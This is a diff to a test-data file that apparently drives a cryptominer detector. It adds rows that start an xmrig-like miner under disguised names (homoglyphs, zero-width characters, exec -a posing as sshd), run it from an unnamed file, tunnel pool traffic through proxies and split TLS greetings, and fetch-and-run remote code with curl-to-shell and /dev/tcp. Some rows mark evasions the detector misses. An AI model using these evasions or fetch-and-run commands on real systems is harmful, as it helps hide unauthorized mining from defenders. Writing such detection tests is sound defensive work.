@@ -10,6 +10,12 @@ export type Row = readonly [name: string, script: string, expected: { rule: stri
 
 const named = { rule: 'miner-name' };
 const MINES = '-o stratum+tcp://pool.example:3333 -u $WALLET -p x';
+const SETTINGS = `echo '{"pools":[{"url":"pool.example:3333","user":"'$WALLET'"}]}'`;
+const THREAD = `python3 -c 'import os, threading, time
+threading.Thread(target=lambda: os.execv("./xmrig", ["web"])).start(); time.sleep(1)'`;
+const UNNAMED = `import os
+file = os.open(".", os.O_TMPFILE | os.O_RDWR, 493); os.write(file, open(os.environ["PROGRAM"], "rb").read())
+link = os.open(f"/proc/self/fd/{file}", os.O_RDONLY); os.close(file); os.execve(link, ["web"], {})`;
 
 export const STARTS: readonly Row[] = [
   ['by its name', 'cp $PROGRAM xmrig; ./xmrig', named],
@@ -83,6 +89,46 @@ export const STARTS: readonly Row[] = [
     'deep=$(printf "/%0200d" 1 2 3 4); mkdir -p .$deep; cp $PROGRAM .$deep/xmrig; .$deep/xmrig',
     named,
   ],
+  [
+    'renamed, with arguments in front of padding, which it wipes out',
+    `printf '#include <string.h>\n#include <unistd.h>\nint main(int c, char **v) { while (c-- > 1) memset(v[c], 97, strlen(v[c])); usleep(300000); }' > w.c
+cc -o web w.c; ./web $(seq -f '--label=%020g' 700) ${MINES}`,
+    { rule: 'stratum-url' },
+  ],
+  [
+    'renamed, with arguments behind padding, that lives for no time',
+    `echo 'int main(void) { return 0; }' > w.c; cc -o web w.c; ./web $(seq -f '--label=%020g' 7000) ${MINES}`,
+    { rule: 'stratum-url' },
+  ],
+  ['in letters of another alphabet', 'cp $PROGRAM хmrig; ./хmrig', named],
+  ['in wide letters', 'cp $PROGRAM ｘｍｒｉｇ; ./ｘｍｒｉｇ', named],
+  ['with a blank behind its name', "cp $PROGRAM 'xmrig '; './xmrig '", named],
+  ['with nothing to be seen within its name', "cp $PROGRAM $'xm\\u200brig'; ./$'xm\\u200brig'", named],
+  ['by another thread than the first', `cp $PROGRAM xmrig; ${THREAD}`, named],
+  ['through env without an environment', 'cp $PROGRAM xmrig; env -i ./xmrig', named],
+  ['through unshare', 'cp $PROGRAM xmrig; unshare -m -p -f ./xmrig', named],
+  ['through chroot', 'mkdir root; cp $PROGRAM root/xmrig; chroot root /xmrig', named],
+  ['through nsenter', 'cp $PROGRAM xmrig; nsenter -t $$ -m -p $PWD/xmrig', named],
+  ['through awk', `cp $PROGRAM xmrig; awk 'BEGIN { system("./xmrig") }'`, named],
+  ['through find', `cp $PROGRAM xmrig; find . -name 'xm*' -exec {} \\;`, named],
+  ['through perl', `cp $PROGRAM xmrig; perl -e 'exec {"./xmrig"} "web"'`, named],
+  [
+    'as the interpreter of a script of a script',
+    String.raw`cp $PROGRAM xmrig; printf "#!$PWD/xmrig wait\n" > a; printf "#!$PWD/a\n" > b; chmod +x a b; ./b`,
+    named,
+  ],
+  ['as an archive of Java', 'cp $PROGRAM java; ./java -jar xmrig.jar', named],
+  ['in an unnamed file', `python3 -c '${UNNAMED}'`, { rule: 'deleted-executable' }],
+  [
+    'that claims to be a service',
+    "cp $PROGRAM web; exec -a 'sshd: root@pts/0' ./web",
+    { rule: 'disguised-process' },
+  ],
+  [
+    'that claims to be a program of the system',
+    'cp $PROGRAM web; exec -a /usr/lib/systemd/systemd-networkd ./web',
+    { rule: 'disguised-process' },
+  ],
   ['through env', 'cp $PROGRAM xmrig; env A=1 ./xmrig', named],
   ['through nice', 'cp $PROGRAM xmrig; nice -n 19 ./xmrig', named],
   ['through nohup', 'cp $PROGRAM xmrig; nohup ./xmrig', named],
@@ -108,17 +154,68 @@ export const STARTS: readonly Row[] = [
     { limit: 'environment' },
   ],
   [
-    'renamed, with all settings in a file, silent',
-    `cp $PROGRAM web; echo '{"pools":[{"url":"pool.example:3333","user":"'$WALLET'"}]}' > c.json; ./web --config=c.json`,
-    { limit: 'settings-in-a-file' },
+    'renamed, with all settings in a file',
+    `cp $PROGRAM web; ${SETTINGS} > c.json; REST=2 ./web --config=c.json`,
+    { rule: 'miner-config' },
+  ],
+  [
+    'renamed, with -c and a path',
+    `cp $PROGRAM web; ${SETTINGS} > c; REST=2 ./web -c $PWD/c`,
+    { rule: 'miner-config' },
+  ],
+  [
+    'renamed, with settings beside it',
+    `cp $PROGRAM web; ${SETTINGS} > config.json; REST=2 ./web`,
+    { rule: 'miner-config' },
+  ],
+  [
+    'renamed, in a root of its own, with settings there',
+    `mkdir root; cp $PROGRAM root/web; ${SETTINGS} > root/c.json; REST=2 chroot root /web -c /c.json`,
+    { rule: 'miner-config' },
+  ],
+  [
+    'renamed, with settings in a file for its standard input',
+    `cp $PROGRAM web; ${SETTINGS} > c; REST=2 ./web --config=/dev/stdin < c`,
+    { rule: 'miner-config' },
+  ],
+  [
+    'renamed, with all settings through a pipe, silent',
+    `cp $PROGRAM web; ${SETTINGS} | ./web --config=-`,
+    { limit: 'settings-through-a-pipe' },
+  ],
+  [
+    'as a library of another program',
+    `echo 'void mine(void) {}' > l.c; cc -shared -o libxmrig.so l.c; LD_PRELOAD=$PWD/libxmrig.so $SLEEP 0.2`,
+    { limit: 'library' },
   ],
   [
     'renamed, with all settings in a file, that mines',
     'cp $PROGRAM web; ./web compute 14 1 down',
     { rule: 'randomx-rounding' },
   ],
+  [
+    'renamed, that mines in one short process after the other',
+    'cp $PROGRAM web; for n in $(seq 7); do ./web compute 2 1 down; done',
+    { rule: 'randomx-rounding' },
+  ],
+  [
+    'renamed, that rests while it mines',
+    'cp $PROGRAM web; for n in $(seq 6); do ./web compute 2 1 down; sleep 1; done',
+    { rule: 'randomx-rounding' },
+  ],
 ];
 
+const RELAY = `import os, socket, threading, time
+own = socket.socket(socket.AF_UNIX); own.bind("relay"); own.listen()
+def relay():
+  near = own.accept()[0]; far = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"])))
+  far.sendall(near.recv(4096))
+threading.Thread(target=relay).start(); miner = socket.socket(socket.AF_UNIX); miner.connect("relay")
+miner.send(b"{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}"); time.sleep(0.3)`;
+const SENDFILE = `import os, socket, time
+link = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"]))); file = open("message", "w+b")
+file.write(b"{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}"); file.flush()
+os.sendfile(link.fileno(), file.fileno(), 0, 100); time.sleep(0.3)`;
 const LOGIN = `'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"'$WALLET'","pass":"x","agent":"XMRig/6.21.0"}}
 '`;
 const SUBSCRIBE = `'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}
@@ -208,6 +305,31 @@ export const STRATUM: readonly Row[] = [
     spoken,
   ],
   [
+    'behind a proxy of HTTP, in one write',
+    say('plain', `$'CONNECT pool.example:3333 HTTP/1.1\\r\\n\\r\\n'${SUBSCRIBE}`),
+    spoken,
+  ],
+  [
+    'behind a proxy of SOCKS',
+    say('plain', `$'\\x05\\x01\\x02' $'\\x05\\x01\\x02\\x03\\x04pool\\x0d\\x05' ${SUBSCRIBE}`),
+    spoken,
+  ],
+  ['over a relay', `python3 -c '${RELAY}'`, spoken],
+  ['from a file', `python3 -c '${SENDFILE}'`, spoken],
+  [
+    'behind padding of 12 kB',
+    say('plain', `"{\\"pad\\":\\"$(seq -s , 2700)\\",\\"method\\":\\"mining.subscribe\\"}"`),
+    spoken,
+  ],
+  [
+    'in frames of a websocket',
+    say(
+      'plain',
+      `$'GET / HTTP/1.1\\r\\nUpgrade: websocket\\r\\n\\r\\n' $'\\x81\\x85\\x01\\x02\\x03\\x04z h a b'`,
+    ),
+    { limit: 'websocket' },
+  ],
+  [
     'behind a long conversation',
     say('plain', `hello a b c d e f g h i j k l m n o p q ${SUBSCRIBE}`),
     spoken,
@@ -233,6 +355,7 @@ export const STRATUM: readonly Row[] = [
 ];
 
 const POOL = 'gulf.moneroocean.stream';
+const proxied = { rule: 'pool-host' };
 const asked = { rule: 'pool-lookup' };
 const greet = (host: string) =>
   `echo | timeout 2 openssl s_client -connect $NAMES:443 -servername ${host} >/dev/null 2>&1`;
@@ -250,6 +373,27 @@ export const NAMES: readonly Row[] = [
     `$PROGRAM ask sendto $NAMES ${POOL}.ns.svc.k8s.corp`,
     asked,
   ],
+  [
+    'over TCP, its length by itself',
+    `python3 -c 'import os, socket, time
+link = socket.create_connection((os.environ["NAMES"], 53)); link.setsockopt(6, 1, 1)
+name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
+query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
+link.send(bytes([0, len(query)])); time.sleep(0.1); link.send(query); time.sleep(0.1)'`,
+    asked,
+  ],
+  [
+    'to a proxy of HTTP',
+    `$PROGRAM say plain 127.0.0.1 $POOL_PORT $'CONNECT ${POOL}:3333 HTTP/1.1\\r\\n\\r\\n'`,
+    proxied,
+  ],
+  [
+    'to a proxy of SOCKS',
+    `python3 -c 'import os, socket, time
+link = socket.create_connection(("127.0.0.1", int(os.environ["POOL_PORT"]))); link.send(bytes([5, 1, 0])); time.sleep(0.1)
+link.send(bytes([5, 1, 0, 3, len("${POOL}")]) + b"${POOL}" + bytes([13, 5])); time.sleep(0.1)'`,
+    proxied,
+  ],
   ['TLS to 443', greet(POOL), { rule: 'pool-host' }],
   [
     'TLS, its greeting in two parts',
@@ -261,6 +405,18 @@ except ssl.SSLWantReadError: pass
 hello = to.read(); half = hello.index(b"moneroocean")
 link = socket.create_connection((os.environ["NAMES"], 443)); link.setsockopt(6, 1, 1)
 link.send(hello[:half]); time.sleep(0.1); link.send(hello[half:]); time.sleep(0.1)' 2>/dev/null`,
+    { limit: 'split-greeting' },
+  ],
+  [
+    'TLS, its greeting in two records',
+    `python3 -c 'import os, socket, ssl, struct, time
+to, back = ssl.MemoryBIO(), ssl.MemoryBIO()
+tls = ssl.create_default_context().wrap_bio(back, to, server_hostname="${POOL}")
+try: tls.do_handshake()
+except ssl.SSLWantReadError: pass
+hello = to.read()[5:]; record = lambda part: bytes([22, 3, 1]) + struct.pack(">H", len(part)) + part
+link = socket.create_connection((os.environ["NAMES"], 443))
+link.send(record(hello[:40]) + record(hello[40:])); time.sleep(0.1)' 2>/dev/null`,
     { limit: 'split-greeting' },
   ],
   [
@@ -292,6 +448,27 @@ export const DOWNLOADS: readonly Row[] = [
     'unpacked from an archive',
     'printf "#!/bin/sh\\nsleep 0.1\\n" > inner; chmod +x inner; tar cf a.tar inner; rm inner; curl -s -o b.tar $WEB/job; tar xf a.tar; ./inner',
     { limit: 'unpacked' },
+  ],
+  [
+    'a program, unpacked from an archive',
+    'cp $PROGRAM inner; tar cf a.tar inner; curl -s -o b.tar $WEB/job; tar xf a.tar -C $LAYER --transform s/inner/inner-$$/; $LAYER/inner-$$ wait',
+    fetched,
+  ],
+  ['through a filter', 'curl -s -o job $WEB/job; cat job | sh', fetched],
+  ['to shared memory', 'curl -s $WEB/job > /dev/shm/job-$$; sh /dev/shm/job-$$; rm /dev/shm/job-$$', fetched],
+  ['with the name that the server gives', 'curl -sOJL $WEB/job; chmod +x job; ./job', fetched],
+  ['curl under another name', 'cp $(command -v curl) c; ./c -s $WEB/far | sh', fetched],
+  ['curl | python', 'curl -s $WEB/job.py | python3', fetched],
+  [
+    'by sessions of their own',
+    'setsid -w bash -c "curl -s -o $PWD/job $WEB/job"; setsid -w bash -c "chmod +x job; exec ./job"',
+    fetched,
+  ],
+  [
+    '/dev/tcp to a file',
+    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /far HTTP/1.0\\r\\n\\r\\n' >&3
+sed '1,/^.$/d' <&3 > job; sh job`,
+    fetched,
   ],
   ['eval', 'eval "$(curl -s $WEB/job)"', { limit: 'same-shell' }],
   [
